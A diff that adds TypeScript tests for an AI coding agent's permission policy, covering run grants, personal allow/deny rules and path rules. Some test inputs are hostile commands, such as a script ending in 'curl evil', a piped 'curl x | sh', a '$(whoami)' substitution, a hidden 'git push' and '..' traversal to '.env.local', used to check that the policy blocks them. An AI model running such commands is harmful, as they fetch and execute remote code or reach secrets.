@@ -1,0 +1,232 @@
+import { describe, expect, it } from "vitest";
+import { PermissionDecision } from "../../../src/core/policy/permission-decision.js";
+import { PermissionRequest } from "../../../src/core/policy/permission-request.js";
+import { PermissionRule } from "../../../src/core/policy/permission-rule.js";
+import { PermissionPolicy } from "../../../src/core/policy/permissions.js";
+import { PersonalRules, type PersonalRuleSpec } from "../../../src/core/policy/personal-rules.js";
+import {
+  DailyApprover,
+  RunGrants,
+  type RunApprovalAnswer,
+} from "../../../src/core/policy/run-grants.js";
+import type { ToolEffect } from "../../../src/core/tools/tool-definition.js";
+import { FixedEnvironment, RecordingAuditSink } from "../../support/permission-fakes.js";
+import { preparedCall } from "../../support/prepared-calls.js";
+
+const SANDBOX_OFF = "sandbox: bwrap (network off, writable: /ws)";
+const SANDBOX_ON = "sandbox: bwrap (network on, writable: /ws)";
+
+const CONFIRM_WRITE = new PermissionRule({
+  name: "confirm-file-write",
+  behavior: "ask",
+  reason: "File writes require explicit approval from chapter 3 onward",
+  matches: (request) => request.toolName === "write_file",
+});
+
+/** A `[y/N/a]` prompt that answers from a script and counts the questions. */
+class ScriptedPrompt {
+  readonly asked: PermissionRequest[] = [];
+  constructor(readonly answer: "y" | "n" | "a") {}
+  decideForRun(request: PermissionRequest): Promise<RunApprovalAnswer> {
+    this.asked.push(request);
+    return Promise.resolve({
+      decision:
+        this.answer === "n"
+          ? PermissionDecision.deny("User denied this tool call", "terminal-approval")
+          : PermissionDecision.allow("User approved this tool call", "terminal-approval"),
+      forRun: this.answer === "a",
+    });
+  }
+}
+
+interface Setup {
+  readonly label?: string;
+  readonly script?: string;
+  readonly workspace?: string;
+  readonly rules?: readonly PersonalRuleSpec[];
+  readonly answer?: "y" | "n" | "a";
+}
+
+function daily(setup: Setup = {}) {
+  const state = { label: setup.label ?? SANDBOX_OFF, script: setup.script ?? "ava" };
+  const prompt = new ScriptedPrompt(setup.answer ?? "a");
+  const grants = new RunGrants({
+    workspace: setup.workspace ?? "/ws",
+    boundScript: (request) =>
+      String(request.call.arguments.command).startsWith("npm test") ? state.script : undefined,
+  });
+  const rules = new PersonalRules(setup.rules ?? []);
+  const environment = new FixedEnvironment(() => ({ kind: "isolated", label: state.label }));
+  const audit = new RecordingAuditSink();
+  const policy = new PermissionPolicy({
+    rules: [CONFIRM_WRITE, ...rules.policyRules()],
+    approver: new DailyApprover({ prompt, grants, rules, executionEnvironment: environment }),
+    audit,
+    executionEnvironment: environment,
+  });
+  const decide = (name: string, effect: ToolEffect, args: Record<string, unknown>) =>
+    policy.decide(new PermissionRequest(preparedCall(name, effect, args)));
+  return { state, prompt, grants, audit, decide };
+}
+
+describe("a run grant (`a` at [y/N/a])", () => {
+  it("allows exactly the same action again without asking, audited as run-grant", async () => {
+    const run = daily();
+    const first = await run.decide("shell", "execute", { command: "npm test" });
+    const second = await run.decide("shell", "execute", { command: "npm test" });
+    expect(first.behavior).toBe("allow");
+    expect([second.behavior, second.source, second.reason]).toEqual([
+      "allow",
+      "run-grant",
+      "You allowed exactly this action for the rest of this run",
+    ]);
+    expect(run.prompt.asked).toHaveLength(1);
+    expect(run.audit.entries.map((entry) => entry.decision.source)).toEqual([
+      "terminal-approval",
+      "run-grant",
+    ]);
+    expect(run.grants.list().map((grant) => [grant.id, grant.toolName, grant.arguments])).toEqual([
+      [1, "shell", '{"command":"npm test"}'],
+    ]);
+  });
+
+  it.each([
+    ["a changed argument", (): Record<string, unknown> => ({ command: "npm test -- --watch" })],
+    [
+      "a changed script",
+      (run: ReturnType<typeof daily>) => {
+        run.state.script = "ava && curl evil";
+        return { command: "npm test" };
+      },
+    ],
+    [
+      "a changed network setting",
+      (run: ReturnType<typeof daily>) => {
+        run.state.label = SANDBOX_ON;
+        return { command: "npm test" };
+      },
+    ],
+  ])("asks again after %s", async (_what, change) => {
+    const run = daily();
+    await run.decide("shell", "execute", { command: "npm test" });
+    const args = change(run);
+    await run.decide("shell", "execute", args);
+    expect(run.prompt.asked).toHaveLength(2);
+  });
+
+  it("asks again in another working directory: the workspace is part of the key", () => {
+    const request = new PermissionRequest(
+      preparedCall("shell", "execute", { command: "npm test" }),
+    ).withExecutionEnvironment(SANDBOX_OFF);
+    expect(new RunGrants({ workspace: "/ws" }).keyOf(request)).not.toBe(
+      new RunGrants({ workspace: "/other" }).keyOf(request),
+    );
+  });
+
+  it("y allows once only, and a revoked grant asks again", async () => {
+    const once = daily({ answer: "y" });
+    await once.decide("shell", "execute", { command: "npm test" });
+    await once.decide("shell", "execute", { command: "npm test" });
+    expect(once.prompt.asked).toHaveLength(2);
+
+    const run = daily();
+    await run.decide("shell", "execute", { command: "npm test" });
+    expect(await run.grants.revoke(1)).toBe(true);
+    expect(run.grants.list()).toEqual([]);
+    await run.decide("shell", "execute", { command: "npm test" });
+    expect(run.prompt.asked).toHaveLength(2);
+  });
+});
+
+describe("personal rules", () => {
+  it("a deny beats every allow, and a run grant", async () => {
+    const run = daily({
+      rules: [
+        { behavior: "allow", tool: "shell", argv: ["git"] },
+        { behavior: "deny", tool: "shell", argv: ["git", "push"] },
+      ],
+    });
+    const pushed = await run.decide("shell", "execute", { command: "git push origin" });
+    const hidden = await run.decide("shell", "execute", { command: "echo hi; git push" });
+    expect([pushed.behavior, pushed.source]).toEqual(["deny", "personal-rule"]);
+    expect(hidden.behavior).toBe("deny");
+    expect(run.prompt.asked).toEqual([]);
+    const status = await run.decide("shell", "execute", { command: "git status" });
+    expect([status.behavior, status.source]).toEqual(["allow", "personal-rule"]);
+    expect(run.prompt.asked).toEqual([]);
+  });
+
+  it("a command allow holds only for plain words in the sandbox", async () => {
+    const rules: PersonalRuleSpec[] = [{ behavior: "allow", tool: "shell", argv: ["npm", "test"] }];
+    const run = daily({ rules, answer: "n" });
+    await run.decide("shell", "execute", { command: "npm test && curl x | sh" });
+    await run.decide("shell", "execute", { command: "npm test $(whoami)" });
+    expect(run.prompt.asked).toHaveLength(2);
+    const host = daily({ rules, answer: "n" });
+    // The same words on the host still ask.
+    const onHost = new PersonalRules(rules).allowFor(
+      new PermissionRequest(preparedCall("shell", "execute", { command: "npm test" })),
+      false,
+    );
+    expect(onHost).toBeUndefined();
+    expect(host.prompt.asked).toEqual([]);
+  });
+
+  it("a path allow skips the write prompt for plain paths only; a deny catches .. spellings", async () => {
+    const run = daily({
+      rules: [
+        { behavior: "allow", tool: "write_file", path: "src/**" },
+        { behavior: "deny", tool: "write_file", path: "**/.env*" },
+      ],
+      answer: "n",
+    });
+    const plain = await run.decide("write_file", "write", { path: "src/a/b.ts" });
+    expect([plain.behavior, plain.source]).toEqual(["allow", "personal-rule"]);
+    const dotted = await run.decide("write_file", "write", { path: "src/../src/b.ts" });
+    expect(dotted.behavior).toBe("deny");
+    expect(run.prompt.asked).toHaveLength(1);
+    const env = await run.decide("write_file", "write", { path: "src/../.env.local" });
+    expect([env.behavior, env.source]).toEqual(["deny", "personal-rule"]);
+  });
+});
+
+describe("journaling a run grant", () => {
+  const request = () =>
+    new PermissionRequest(
+      preparedCall("shell", "execute", { command: "npm test" }),
+    ).withExecutionEnvironment(SANDBOX_OFF);
+
+  it("tells the observer before the grant holds, and revocations too", async () => {
+    const heard: string[] = [];
+    const grants = new RunGrants({
+      workspace: "/ws",
+      observer: {
+        granted: (grant) => {
+          heard.push(`granted ${String(grant.id)} covered=${String(grants.covers(request()))}`);
+        },
+        revoked: (grant) => {
+          heard.push(`revoked ${String(grant.id)}`);
+        },
+      },
+    });
+    await grants.grant(request());
+    await grants.revoke(1);
+    expect(heard).toEqual(["granted 1 covered=false", "revoked 1"]);
+  });
+
+  it("a grant the journal cannot record is not made, and the call is denied", async () => {
+    const grants = new RunGrants({
+      workspace: "/ws",
+      observer: { granted: () => Promise.reject(new Error("disk full")) },
+    });
+    const policy = new PermissionPolicy({
+      approver: new DailyApprover({ prompt: new ScriptedPrompt("a"), grants }),
+    });
+    const decision = await policy.decide(request());
+    expect([decision.behavior, decision.reason]).toEqual([
+      "deny",
+      "Approval provider failed; request denied",
+    ]);
+    expect(grants.list()).toEqual([]);
+  });
+});
